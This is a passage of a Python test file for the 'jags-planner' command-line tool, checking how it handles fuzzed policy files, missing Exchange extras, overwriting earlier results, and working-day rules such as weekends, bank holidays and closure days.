                '"bedfordshire"',
                "inf",
                "nan",
                "{ same_sector = -1 }",
                "{ bogus = 1 }",
            ]
        ),
    ),
    lambda inner: st.lists(inner, max_size=3).map(lambda v: "[" + ", ".join(v) + "]"),
    max_leaves=5,
)


@PROPERTY
@given(
    lines=st.lists(st.tuples(st.sampled_from(POLICY_KEYS), toml_values), max_size=6),
    junk=st.one_of(st.none(), st.binary(max_size=200)),
)
def test_any_policy_file_gives_success_or_exit_2(
    lines: list[tuple[str, str]], junk: bytes | None, tmp_path: Path
) -> None:
    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
        path = Path(folder) / "policy.toml"
        if junk is None:
            path.write_text("".join(f"{k} = {v}\n" for k, v in lines), "utf-8")
        else:
            path.write_bytes(junk)
        result = jags("policies", path)
        assert_exit_0_or_2(result, Path(folder) / "out")


@pytest.mark.parametrize(("command", "module"), [("schedule", "msal"), ("invite", "exchangelib")])
def test_without_the_exchange_extra_exchange_and_graph_are_a_clear_error(
    schedule_copy: Path,
    allocated: tuple[Result, Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    command: str,
    module: str,
) -> None:
    monkeypatch.setitem(sys.modules, module, None)  # as if `pip install jags-planner` alone
    for name in ("TENANT_ID", "CLIENT_ID", "CLIENT_SECRET", "ORGANIZER"):
        monkeypatch.setenv(f"JAGS_GRAPH_{name}", "set")
    out = tmp_path / "out"
    if command == "schedule":
        result = jags(
            "schedule",
            SAMPLE,
            "--allocations",
            allocated[1] / "allocations.csv",
            "--confirmed-on",
            "2026-11-30",
            "--out",
            out,
            "--source",
            "graph",
        )
    else:
        result = jags("invite", schedule_copy, "--send", "exchange", "--no-dry-run")
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert f"{module} is missing" in result.stderr
    assert "pip install 'jags-planner[exchange]'" in result.stderr
    assert not out.exists()


# Front-door details ------------------------------------------------------------------------


def test_version() -> None:
    from importlib.metadata import version

    result = jags("--version")
    assert result.exit_code == 0, result.output
    assert result.stdout == f"jags-planner {version('jags-planner')}\n"


def test_allocate_refuses_to_replace_a_different_earlier_result(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    out = tmp_path / "today"
    first = jags("allocate", SAMPLE, "--on", ON, "--out", out)
    assert first.exit_code == 0, first.output
    before = snapshot(out)
    assert before == snapshot(allocated[1])
    again = jags("allocate", SAMPLE, "--on", ON, "--out", out)  # the same batch: fine
    assert again.exit_code == 0, again.output
    assert snapshot(out) == before
    other = jags("allocate", SAMPLE, "--on", "2026-11-20", "--out", out)  # another batch
    assert other.exit_code == 2
    assert other.stderr.startswith(
        f"error: {out} holds an earlier result that differs from "
        "this one; nothing was written. Add --force to replace it"
    )
    assert other.stdout == "" and "Traceback" not in other.output
    assert snapshot(out) == before
    xlsx = jags("allocate", SAMPLE, "--on", ON, "--format", "xlsx", "--out", out)  # adds a file
    assert xlsx.exit_code == 0, xlsx.output
    forced = jags("allocate", SAMPLE, "--on", "2026-11-20", "--out", out, "--force")
    assert forced.exit_code == 0, forced.output
    assert read_csv(out / "allocations.csv")[0]["batch_date"] == "2026-11-20"
    assert sorted(snapshot(out)) == [
        "allocations.csv",
        "explanations.csv",
        "facilitator_status.csv",
    ]


def test_schedule_refuses_to_replace_a_different_earlier_result(
    allocated: tuple[Result, Path], scheduled: tuple[Result, Path], tmp_path: Path
) -> None:
    out = tmp_path / "sessions"
    shutil.copytree(scheduled[1], out)
    before = snapshot(out)
    result = jags(
        "schedule",
        SAMPLE,
        "--allocations",
        allocated[1] / "allocations.csv",
        "--confirmed-on",
        "2026-12-01",
        "--on",
        ON,
        "--out",
        out,
    )
    assert result.exit_code == 2
    assert "holds an earlier result that differs from this one" in result.stderr
    assert snapshot(out) == before


@pytest.mark.parametrize(
    ("day", "said", "why", "following"),
    [
        ("2026-11-21", "Saturday 21 November 2026", "a weekend", "Monday 23 November 2026"),
        (
            "25/12/2026",
            "Friday 25 December 2026",
            "Christmas Day, a bank holiday",
            "Tuesday 29 December 2026",
        ),
    ],
)
def test_allocate_on_a_non_working_day_is_refused_unless_forced(
    day: str, said: str, why: str, following: str, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    result = jags("allocate", SAMPLE, "--on", day, "--out", out)
    assert result.exit_code == 2
    assert result.stderr == (
        f"error: --on: {said} is not a working day ({why}); the next "
        f"working day is {following}. Add --force to run the batch on it "
        f"anyway\n"
    )
    assert not out.exists()
    forced = jags("allocate", SAMPLE, "--on", day, "--out", out, "--force")
    assert forced.exit_code == 0, forced.output
    assert (out / "allocations.csv").is_file()


def test_a_policy_closure_day_is_not_a_working_day(tmp_path: Path) -> None:
    policy = tmp_path / "closed.toml"
    policy.write_text('base = "norfolk"\nclosure_days = [2026-11-23]\n', encoding="utf-8")
    result = jags("allocate", SAMPLE, "--on", ON, "--policy", policy, "--out", tmp_path / "o")
    assert result.exit_code == 2
    assert (
        "(a closure day in the policy); the next working day is Tuesday 24 November "
        "2026" in result.stderr
    )
